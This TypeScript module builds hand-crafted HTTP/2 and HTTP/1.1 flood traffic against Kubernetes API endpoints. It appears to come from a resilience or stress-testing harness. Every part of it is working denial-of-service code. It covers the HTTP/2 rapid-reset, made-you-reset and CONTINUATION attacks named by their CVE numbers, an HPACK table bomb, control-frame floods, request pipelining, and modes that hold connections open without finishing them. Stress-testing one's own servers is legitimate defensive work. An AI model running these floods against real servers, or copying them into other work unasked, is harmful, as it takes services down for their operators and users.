/**
 * Endless hostile traffic for one connection. HTTP/2 frames are built by hand (RFC 9113), because no library sends
 * them.
 */

const HEADERS = 1;
const PRIORITY = 2;
const RESET = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = 8;
/** Number of frames in one write. */
const BATCH = 1000;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

export function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
/** HPACK encoding of a GET request with scheme https, a path and an authority. */
const get = (path: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x04]), text(path), Buffer.from([0x01]), text('x')]);
const LIST = get('/api/v1/pods');
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]);
const UPGRADE = Buffer.from(
  [
    'GET /api/v1/namespaces/default/pods/x/exec?command=x HTTP/1.1',
    ...['Host: x', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'],
    ...['Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', '', ''],
  ].join('\r\n'),
);
const batch = (make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: BATCH }, (_, at) => make(at)));

export interface FloodStream {
  readonly alpn: 'h2' | 'http/1.1';
  readonly head: Buffer;
  /** Next bytes to send; undefined at the end. */
  readonly next: () => Buffer | undefined;
}

/** Returns IDs of new streams. */
function streams(): () => number {
  let last = -1;
  return () => {
    last += 2;
    return last;
  };
}

const h2 = (next: () => Buffer | undefined, head: Buffer = PREFACE): FloodStream => ({ alpn: 'h2', head, next });
const repeated = (bytes: Buffer): FloodStream => h2(() => bytes);
const CONTINUED = Buffer.concat([frame(HEADERS, END_STREAM, 1, LIST)]);

const FLOODS = {
  /** Opens streams and resets them immediately (CVE-2023-44487). */
  'rapid-reset': () => {
    const id = streams();
    return h2(() =>
      batch(() => {
        const stream = id();
        return Buffer.concat([
          frame(HEADERS, END_STREAM | END_HEADERS, stream, LIST),
          frame(RESET, 0, stream, number(CANCEL)),
        ]);
      }),
    );
  },
  /** CVE-2025-8671: a window update of zero makes the server reset the stream. */
  'made-you-reset': () => {
    const id = streams();
    return h2(() =>
      batch(() => {
        const stream = id();
        return Buffer.concat([
          frame(HEADERS, END_STREAM | END_HEADERS, stream, LIST),
          frame(WINDOW_UPDATE, 0, stream, number(0)),
        ]);
      }),
    );
  },
  streams: () => {
    const id = streams();
    return h2(() => batch(() => frame(HEADERS, END_STREAM | END_HEADERS, id(), LIST)));
  },
  /** Sends a header block that never ends (CVE-2024-27316 and similar). */
  continuation: () => h2(() => batch(() => frame(CONTINUATION, 0, 1)), Buffer.concat([PREFACE, CONTINUED])),
  settings: () => repeated(batch(() => frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), number(65_535)])))),
  ping: () => repeated(batch(() => frame(PING, 0, 0, Buffer.alloc(8)))),
  priority: () => repeated(batch((at) => frame(PRIORITY, 0, at * 2 + 1, Buffer.alloc(5)))),
  'window-update': () => repeated(batch(() => frame(WINDOW_UPDATE, 0, 0, number(1)))),
  /** Adds the largest possible entry to the HPACK table and refers to the entry as often as fits in a block. */
  'hpack-bomb': () => {
    const id = streams();
    const large = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa0, 0x1e]), Buffer.alloc(3999, 0x78)]);
    const first = frame(HEADERS, END_STREAM | END_HEADERS, id(), Buffer.concat([LIST, large]));
    const again = Buffer.concat([LIST, Buffer.alloc(16_000, 0xbe)]);
    return h2(() => frame(HEADERS, END_STREAM | END_HEADERS, id(), again), Buffer.concat([PREFACE, first]));
  },
  pipeline: () => {
    const bytes = Buffer.from('GET /api/v1/pods HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(BATCH));
    return { alpn: 'http/1.1' as const, head: Buffer.alloc(0), next: () => bytes };
  },
  /** Opens connections that send nothing after the handshake. */
  churn: () => h2(() => undefined, Buffer.alloc(0)),
  /** Connections without any data after the handshake. */
  idle: () => h2(() => undefined, Buffer.alloc(0)),
  /** Sends an upgrade request without credentials, and does not close its side after the response. */
  'refused-upgrade': () => ({ alpn: 'http/1.1' as const, head: UPGRADE, next: () => undefined }),
  /** Sends a request with a window of zero, so that the server can never finish the response. */
  'unread-response': () =>
    h2(
      () => undefined,
      Buffer.concat([
        Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
        frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), number(0)])),
        frame(HEADERS, END_STREAM | END_HEADERS, 1, LIST),
      ]),
    ),
} satisfies Record<string, () => FloodStream>;

/** Floods that only hold their connections. Closed connections are not reopened. */
const HOLDING: ReadonlySet<string> = new Set(['idle', 'refused-upgrade', 'unread-response']);

export type Flood = keyof typeof FLOODS;
export const isFlood = (mode: string): mode is Flood => Object.hasOwn(FLOODS, mode);
export const isHolding = (mode: Flood): boolean => HOLDING.has(mode);
export const streamOf = (mode: Flood): FloodStream => FLOODS[mode]();
